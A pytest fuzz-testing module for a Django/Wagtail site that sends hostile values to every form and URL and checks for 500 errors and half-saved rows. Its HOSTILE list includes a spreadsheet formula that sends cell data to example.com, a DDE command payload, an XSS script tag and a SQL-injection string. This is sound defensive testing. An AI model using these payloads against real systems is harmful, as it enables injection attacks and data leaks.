"""No input makes the platform answer 500.

Nothing here is listed by hand. The URL patterns come from the resolver and their path
arguments from the rows that ``tests/world.py`` builds (the permission matrix's). The forms are
the ``<form>`` elements the pages show: every URL, every live page of the site and every
event's page is asked with GET as each role that can reach it (the admin as the superuser),
its HTML is parsed, and each form goes back, with the CSRF token from the page, by the role
it was shown to, carrying hostile values: NUL and other control characters, 10,000
characters, right-to-left overrides and emoji, spreadsheet formulas, dates and times beyond
what Python or the database can hold, negative and huge numbers, ids that are no numbers. Every
URL pattern with path arguments is asked with hostile arguments too, with GET and POST, by the
first role (in ``ROLES`` order) that may use it.

Every answer must be below 500, and a POST answered with a form error (a 400, or the page
again with its errors) must leave every table's row count as it was: refused input half-saves
nothing.

Hypothesis draws the values with a fixed budget and a fixed seed per form and URL, so every
run sends the same requests, and the test stays within a few minutes on two cores:

- each form: two requests per field with that field hostile and the others as the page filled
  them in (at most ``FIELD_CAP`` fields; hidden inputs, choices and dates first), which reaches
  the services; then ``FORM_EXAMPLES`` requests with every field drawn from its own value or
  hostile ones. A form set's management fields go as the page has them (Django checks and
  caps them), and controls inside a ``<template>`` are not sent, as in a browser;
- each path argument: the ``PATH_VALUES`` of its converter with GET, one of them with POST,
  then ``PATH_EXAMPLES`` drawn ones with GET.

A 500 inside Wagtail's own code that nothing of ours can reach around is listed in
``KNOWN_UPSTREAM``; ``test_known_upstream_errors_still_happen`` fails once Wagtail fixes one, so
the entry goes with the upgrade that fixes it.

``NEVER500_VERBOSE=1 python -m pytest tests/test_never_500.py -s`` prints every form covered.
"""

import os
import time
import zlib
from collections import Counter
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from http.cookies import SimpleCookie
from urllib.parse import quote, urljoin, urlsplit

import pytest
from django.db import connection, transaction
from django.test import Client, override_settings
from django.urls import Resolver404, resolve
from django.utils import timezone
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from wagtail.models import Page, PageSubscription

from home.models import HouseSettings
from tests.world import DELIBERATE_ERRORS, ROLES, built_world, url_path

pytestmark = pytest.mark.django_db

FIELD_CAP = 12
FORM_EXAMPLES = 3
PATH_EXAMPLES = 2

# --- Hostile values ---------------------------------------------------------------------------

NUL_TEXT = "Prøve\x00tekst"
LONG = "x" * 10_000
BIDI_EMOJI = "\u202egnp.exe\u202c Grønn 👩🏽‍💻🇳🇴 \u200f\u2066x\u2069"
FORMULA = '=HYPERLINK("https://example.com/?d="&A1;"Klikk")'
HUGE = "99999999999999999999999"

# By the kind of value a field holds; the sharpest first (the sweep takes from the first four).
HOSTILE = {
    "text": [
        NUL_TEXT,
        LONG,
        BIDI_EMOJI,
        FORMULA,
        "+cmd|' /C calc'!A0",
        "\x01\x1b[31m\x7f",
        "<script>alert(1)</script>",
        "' OR '1'='1",
        "%s%n%x{0}",
        " ",
    ],
    "int": ["abc", HUGE, "-1", "1.5", "\x00", str(2**63), "-" + HUGE, "1e309", "NaN", ""],
    "date": ["0001-01-01", "9999-12-31", "2026-02-30", "10000-01-01", "\x00", "-0001-01-01"],
    "datetime": [
        "0001-01-01T00:00:00+01:00",
        "9999-12-31T23:59:59-14:00",
        "9999-12-31T23:30:00+00:00",
        "9999-12-31 23:59",
        "0001-01-01 00:00",
        "2026-03-29T02:30",  # does not exist in Oslo
        "2026-10-25T02:30",  # happens twice in Oslo
        "\x00",
        "2026-01-01T10:00+99:00",
    ],
    "time": ["24:00", "23:59:60", "99:99", "-01:00", "\x00", "25"],
    "choice": ["abc", "\x00", LONG, "-1", HUGE, ""],
}

PATH_VALUES = {
    "int": ["0", HUGE, str(2**63)],
    "str": ["\x00", LONG, BIDI_EMOJI, FORMULA, ".."],
}


def hostile(kind):
    """One hostile value for a field of ``kind``."""
    return st.one_of(
        st.sampled_from(HOSTILE[kind]),
        st.sampled_from(HOSTILE["text"] + HOSTILE["int"]),
        st.text(max_size=30),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
        st.dates(min_value=date(1, 1, 1)).map(date.isoformat),
    )


def run_examples(strategy, send, *, max_examples, seed_from):
    """Hypothesis draws ``max_examples`` values for ``send``: the same ones on every run, from
    a seed made of ``seed_from`` (the URL's or form's name), so each form gets its own draws.

    ``send`` records what went wrong instead of raising, so that one run lists every 500."""

    @seed(zlib.crc32(seed_from.encode()))
    @settings(
        max_examples=max_examples,
        deadline=None,
        database=None,
        phases=(Phase.generate,),
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def run(value):
        send(value)

    run()


# --- Wagtail's own errors ---------------------------------------------------------------------

# URL name: (exception, message, a request that shows it: method, path, data, as the superuser).
KNOWN_UPSTREAM = {
    # Searching images or documents while filtering by usage count: the search backend cannot
    # read the usage count's annotation (wagtail 8.0, modelsearch).
    "wagtailimages:index_results": (
        "AttributeError",
        "'Coalesce' object has no attribute 'target'",
        lambda w: ("get", "/admin/images/results/", {"q": "x", "usage_count_min": "1"}),
    ),
    "wagtaildocs:index_results": (
        "AttributeError",
        "'Coalesce' object has no attribute 'target'",
        lambda w: ("get", "/admin/documents/results/", {"q": "x", "usage_count_min": "1"}),
    ),
    # Reverting to a revision that does not exist reads an attribute of None.
    "wagtailadmin_pages:revisions_revert": (
        "AttributeError",
        "'NoneType' object has no attribute 'as_object'",
        lambda w: ("get", f"/admin/pages/{w.news.pk}/revisions/0/revert/", {}),
    ),
}


def view_name(path):
    try:
        return resolve(urlsplit(path).path).view_name
    except Resolver404:
        return urlsplit(path).path


def known_upstream(path, exc):
    known = KNOWN_UPSTREAM.get(view_name(path))
    return bool(known and exc and type(exc).__name__ == known[0] and known[1] in str(exc))


# --- Reading forms from the pages -------------------------------------------------------------


@dataclass
class Field:
    name: str
    widget: str  # the input's type, "select" or "textarea"
    values: list = field(default_factory=list)  # what the browser sends as the page stands
    options: list = field(default_factory=list)
    kind: str = "text"


@dataclass
class Form:
    method: str
    action: str
    role: str
    fields: dict
    token: str | None
    button: tuple | None  # the submit button's name and value, when it has a name

    @property
    def key(self):
        """The same form for another row (another match on the board) counts once."""
        return (self.method, view_name(self.action), tuple(sorted(self.fields)), self.button)


class FormParser(HTMLParser):
    """A page's forms and their controls, as a browser sees them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms, self.by_id = [], {}
        self.current = self.select = self.textarea = None
        self.in_template = 0  # a <template>'s controls are copied by script, not sent

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        if tag == "template":
            self.in_template += 1
        if self.in_template:
            return
        if tag == "form":
            self.current = {"attrs": attrs, "controls": []}
            self.forms.append(self.current)
            if attrs.get("id"):
                self.by_id[attrs["id"]] = self.current
            return
        # A control outside its form names it with form="id".
        target = self.by_id.get(attrs["form"]) if "form" in attrs else self.current
        if target is None or "disabled" in attrs:
            return
        if tag in ("input", "button"):
            target["controls"].append([tag, attrs, None])
        elif tag == "select":
            self.select = [tag, attrs, []]
            target["controls"].append(self.select)
        elif tag == "option" and self.select is not None:
            self.select[2].append([attrs, ""])
        elif tag == "textarea":
            self.textarea = [tag, attrs, ""]
            target["controls"].append(self.textarea)

    def handle_data(self, data):
        if self.in_template:
            return
        if self.textarea is not None:
            self.textarea[2] += data
        elif self.select is not None and self.select[2]:
            self.select[2][-1][1] += data

    def handle_endtag(self, tag):
        if tag == "template":
            self.in_template = max(0, self.in_template - 1)
        elif tag == "form":
            self.current = None
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None


def _parses(value, parse):
    try:
        parse(value)
    except ValueError:
        return False
    return True


def _kind(f):
    typed = {"date": "date", "datetime-local": "datetime", "time": "time", "number": "int"}
    if f.widget in typed:
        return typed[f.widget]
    sample = [v for v in (f.options or f.values) if v]
    if sample and all(v.lstrip("-").isdigit() for v in sample):
        return "int"
    if sample and all(len(v) > 10 and _parses(v, datetime.fromisoformat) for v in sample):
        return "datetime"
    if sample and all(_parses(v, date.fromisoformat) for v in sample):
        return "date"
    return "choice" if f.widget in ("select", "radio", "checkbox") else "text"


def _filled(f):
    """A plausible value for an empty field, so that a request gets past the required ones."""
    soon = (timezone.localdate() + timedelta(days=14)).isoformat()
    by_widget = {
        "email": "prove@example.no",
        "url": "https://example.no/",
        "tel": "+47 22 22 22 22",
        "date": soon,
        "datetime-local": f"{soon}T10:00",
        "time": "10:00",
        "number": "1",
        "password": "Et langt nok passord 2026",
    }
    return by_widget.get(f.widget) or {"int": "1", "date": soon}.get(f.kind, "Prøve")


def forms_of(html, *, page, role):
    """Each form of the page as a browser would send it: one per named submit button."""
    parser = FormParser()
    parser.feed(html)
    found = []
    for form in parser.forms:
        fields, buttons, token = {}, [], None
        for tag, a, extra in form["controls"]:
            name = a.get("name")
            widget = tag if tag in ("select", "textarea") else a.get("type", "").lower()
            widget = widget or ("submit" if tag == "button" else "text")
            if name == "csrfmiddlewaretoken":
                token = a.get("value")
                continue
            if widget in ("submit", "image", "button", "reset"):
                if name and widget == "submit":
                    buttons.append((name, a.get("value", "")))
                continue
            if not name or widget == "file":
                continue
            f = fields.setdefault(name, Field(name=name, widget=widget))
            if widget == "select":
                f.options = [o.get("value", text.strip()) for o, text in extra]
                chosen = [o.get("value", text.strip()) for o, text in extra if "selected" in o]
                f.values = chosen or ([] if "multiple" in a else f.options[:1])
            elif widget in ("radio", "checkbox"):
                f.options.append(a.get("value", "on"))
                if "checked" in a:
                    f.values.append(a.get("value", "on"))
            elif widget == "textarea":
                f.values = [extra.strip("\n") or "Prøvetekst"]
            else:
                f.values = [a.get("value", "")]
        for f in fields.values():
            f.kind = _kind(f)
            if f.widget == "radio" and not f.values:
                f.values = f.options[:1]
            elif f.widget not in ("checkbox", "radio", "hidden", "select") and not any(f.values):
                f.values = [_filled(f)]
        method = form["attrs"].get("method", "get").lower()
        action = urljoin(page, form["attrs"].get("action") or page)
        found += [Form(method, action, role, fields, token, b) for b in buttons or [None]]
    return found


# --- Requests ---------------------------------------------------------------------------------

ERROR_MARKERS = (
    'class="error"',
    "field-error",
    "form-errors",
    "errorlist",
    "w-field__errors",
    "error-message",
    "help-critical",
    'aria-invalid="true"',
)


class RoleClient:
    """One role's client: its cookies are put back before every request, and every request
    runs in a transaction that is rolled back, so no request changes what the next one sees."""

    def __init__(self, world, role):
        self.client = Client(raise_request_exception=False)
        if role != "anon":
            self.client.force_login(world.users[role])
        self.cookies = self.client.cookies.output(header="", sep="\n")

    def send(self, method, path, data=None):
        self.client.cookies = SimpleCookie(self.cookies)
        with transaction.atomic():
            before = row_counts() if method == "post" else {}
            send = self.client.post if method == "post" else self.client.get
            response = send(path, data or {}, follow=False)
            after = row_counts() if method == "post" else {}
            transaction.set_rollback(True)
        response.changed = sorted(t for t in before if before[t] != after[t])
        return response


_TABLES = []


# Bookkeeping of who is signed in and who has an edit view open: no form's save.
NOT_SAVES = {"django_session", "wagtailadmin_editingsession"}


def row_counts():
    """Every table's row count but ``NOT_SAVES``, in one query."""
    if not _TABLES:
        names = connection.introspection.django_table_names(only_existing=True)
        _TABLES.extend(sorted(set(names) - NOT_SAVES))
    counts = ", ".join(f"(SELECT COUNT(*) FROM {connection.ops.quote_name(t)})" for t in _TABLES)
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {counts}")
        return dict(zip(_TABLES, cursor.fetchone(), strict=True))


def shows_form_error(response):
    if response.status_code == 400:
        return True
    if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
        return False
    body = response.content.decode(errors="replace")
    return any(marker in body for marker in ERROR_MARKERS)


class Findings:
    def __init__(self):
        self.errors, self.half_saved, self.upstream = [], [], Counter()
        self.answers = Counter()

    def check(self, client, role, method, path, data=None):
        response = client.send(method, path, data)
        self.answers[f"{method.upper()} {response.status_code // 100}xx"] += 1
        exc = (getattr(response, "exc_info", None) or (None, None))[1]
        where = f"{role} {method.upper()} {_short(path)}"
        if response.status_code >= 500:
            if known_upstream(path, exc):
                self.upstream[view_name(path)] += 1
            else:
                self.errors.append(
                    f"{where} → {response.status_code} {_short(repr(exc), 160)} "
                    f"with {_short_data(data)}"
                )
        elif method == "post" and response.changed and shows_form_error(response):
            self.half_saved.append(
                f"{where} → {response.status_code} with a form error, yet rows changed in "
                f"{response.changed}, with {_short_data(data)}"
            )
        return response


# --- The rows and pages -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    """The permission matrix's rows, and what makes the rest of the mentoring forms appear: a
    date the mentor has off, a proposal for staff to decide, a request with no proposal."""
    with built_world(django_db_blocker, tmp_path_factory.mktemp("media")) as w:
        from mentoring import services as mentoring
        from mentoring.models import DateOverride, Match
        from tests.factories.mentoring import (
            EntrepreneurFactory,
            MatchFactory,
            MentoringRequestFactory,
        )

        mentoring.date_override_add(
            mentor=w.mentor_profile,
            date=timezone.localdate() + timedelta(days=10),
            kind=DateOverride.Kind.OFF,
        )
        proposed = MentoringRequestFactory(entrepreneur=EntrepreneurFactory())
        MatchFactory(request=proposed, mentor=w.mentor_profile, status=Match.Status.PROPOSED)
        MentoringRequestFactory(entrepreneur=EntrepreneurFactory())
        # Rows that showing a page makes the first time, whatever the form then does: the
        # footer's house settings, and the editor's subscription to comments on a page.
        HouseSettings.for_site(w.site)
        for page in Page.objects.all():
            PageSubscription.objects.get_or_create(
                page=page, user=w.users["super"], defaults={"comment_notifications": False}
            )
        yield w


def page_paths(w):
    """Every URL pattern's path, then every live page of the site and every event's page."""
    from events.models import Event

    paths = []
    for url in w.urls:
        if url.name in DELIBERATE_ERRORS:
            continue
        try:
            paths.append((url_path(url, w), url))
        except LookupError:
            continue
    paths += [(p.url, None) for p in Page.objects.live().specific().order_by("path") if p.url]
    paths += [(e.get_absolute_url(), None) for e in Event.objects.order_by("pk")]
    return paths


def test_no_input_answers_500(world):
    started = time.monotonic()
    clients = {role: RoleClient(world, role) for role in ROLES}
    found = Findings()
    with override_settings(GRUNDERHUS_ADMIN_REQUIRES_2FA=False):
        # 1. Every page as every role that can reach it: who may use it, and its forms.
        forms, user_of = {}, {}
        for path, url in page_paths(world):
            for role in ("super",) if path.startswith("/admin/") else ROLES:
                response = found.check(clients[role], role, "get", path)
                if response.status_code in (200, 405) and url is not None:
                    user_of.setdefault(id(url), role)
                if response.status_code == 200 and "html" in response.get("Content-Type", ""):
                    for form in forms_of(response.content.decode(), page=path, role=role):
                        forms.setdefault(form.key, form)
        paged = time.monotonic()

        # 2. Hostile path arguments, by the first role that may use the URL.
        with_params = [u for u in world.urls if u.params and u.name not in DELIBERATE_ERRORS]
        for url in with_params:
            role = user_of.get(id(url), "super")
            fuzz_path(url, world, clients[role], role, found)
        pathed = time.monotonic()

        # 3. Every form with hostile values, by the role that was shown it.
        exercised, seconds = Counter(), Counter()
        for form in forms.values():
            began = time.monotonic()
            fuzz_form(form, clients[form.role], found, exercised)
            seconds[form.key] = time.monotonic() - began
        finished = time.monotonic()

    fields = sum(len(f.fields) for f in forms.values())
    print(
        f"\n{len(world.urls)} URL patterns, {len(with_params)} with path arguments; "
        f"{len(forms)} forms with {fields} fields; {sum(found.answers.values())} requests "
        f"{dict(sorted(found.answers.items()))}; pages {paged - started:.0f}s, paths "
        f"{pathed - paged:.0f}s, forms {finished - pathed:.0f}s; known upstream 500s: "
        f"{dict(found.upstream) or 'none'}"
    )
    if os.environ.get("NEVER500_VERBOSE"):
        for form in forms.values():
            print(
                f"  {form.role:5} {form.method:4} {_short(form.action, 60):60} "
                f"{exercised[form.key]:3} {seconds[form.key]:5.1f}s {form.button or ''} "
                + " ".join(f"{f.name}:{f.kind}" for f in form.fields.values())
            )
    assert not found.errors, f"{len(found.errors)} answers of 500:\n" + "\n".join(found.errors)
    assert not found.half_saved, "\n".join(found.half_saved)
    # Sent by someone the view lets in: not every answer a 403, 404, 405 or a login page.
    unused = [f"{f.role} {f.method} {f.action}" for f in forms.values() if not exercised[f.key]]
    assert not unused, "Forms no hostile request got into:\n" + "\n".join(unused)


def fuzz_path(url, w, client, role, found):
    for param in url.params:
        kind = "int" if f"<int:{param}>" in url.route else "str"

        def send(value, method="get", param=param):
            try:
                path = url_path(url, w, replace={param: quote(value, safe="")})
            except LookupError:
                return
            found.check(client, role, method, path)

        for value in PATH_VALUES[kind]:
            send(value)
        send(PATH_VALUES[kind][1], "post")
        strategy = (
            st.integers(min_value=0, max_value=2**80).map(str)
            if kind == "int"
            else st.text(min_size=1, max_size=40)
        )
        run_examples(strategy, send, max_examples=PATH_EXAMPLES, seed_from=f"{url.key} {param}")


# Hidden inputs, choices and dates first: ids and times are what services compute with.
SWEEP_ORDER = {"hidden": 0, "select": 1, "radio": 1, "date": 2, "datetime-local": 2, "number": 2}
# A form set's own bookkeeping, which Django checks and caps (a huge TOTAL_FORMS only makes
# the page slow to draw): sent as the page has it.
MANAGEMENT = ("-TOTAL_FORMS", "-INITIAL_FORMS", "-MIN_NUM_FORMS", "-MAX_NUM_FORMS")


def fuzz_form(form, client, found, exercised):
    def send(changes):
        data = {name: list(f.values) for name, f in form.fields.items()}
        data.update(changes)
        if form.token:
            data["csrfmiddlewaretoken"] = [form.token]
        if form.button:
            data[form.button[0]] = [form.button[1]]
        data = {k: v for k, v in data.items() if v != []}
        response = found.check(client, form.role, form.method, form.action, data)
        turned_away = response.status_code in (403, 404, 405) or (
            form.role != "anon" and "/login/" in response.get("Location", "")
        )
        exercised[form.key] += not turned_away

    # One field at a time, the others as the page filled them in: the kind's sharpest value,
    # then one of the next three in turn.
    fuzzed = [f for f in form.fields.values() if not f.name.endswith(MANAGEMENT)]
    swept = sorted(fuzzed, key=lambda f: SWEEP_ORDER.get(f.widget, 3))
    for n, f in enumerate(swept[:FIELD_CAP]):
        values = HOSTILE[f.kind]
        send({f.name: [values[0]]})
        send({f.name: [values[1 + n % 3]]})

    # Every field at once, each its own value or a hostile one.
    either = {f.name: st.one_of(st.just(f.values), hostile(f.kind).map(_one)) for f in fuzzed}
    run_examples(
        st.fixed_dictionaries(either), send, max_examples=FORM_EXAMPLES, seed_from=str(form.key)
    )


@pytest.mark.parametrize("name", sorted(KNOWN_UPSTREAM))
def test_known_upstream_errors_still_happen(world, name):
    """Each Wagtail error that the test above lets pass still happens: when an upgrade fixes
    it, this fails, and the entry leaves ``KNOWN_UPSTREAM``."""
    exception, message, make = KNOWN_UPSTREAM[name]
    method, path, data = make(world)
    assert resolve(path).view_name == name
    with override_settings(GRUNDERHUS_ADMIN_REQUIRES_2FA=False):
        response = RoleClient(world, "super").send(method, path, data)
    exc = (getattr(response, "exc_info", None) or (None, None))[1]
    assert response.status_code == 500, f"{name} no longer fails: remove it from KNOWN_UPSTREAM"
    assert type(exc).__name__ == exception and message in str(exc)


def _one(value):
    return [value]


def _short(text, limit=90):
    text = str(text)
    return text if len(text) <= limit else text[: limit - 12] + f"…({len(text)})"


def _short_data(data):
    shown = (
        f"{k}={_short(repr(v[0] if len(v) == 1 else v), 50)}"
        for k, v in (data or {}).items()
        if k != "csrfmiddlewaretoken"
    )
    return "{" + ", ".join(shown) + "}"
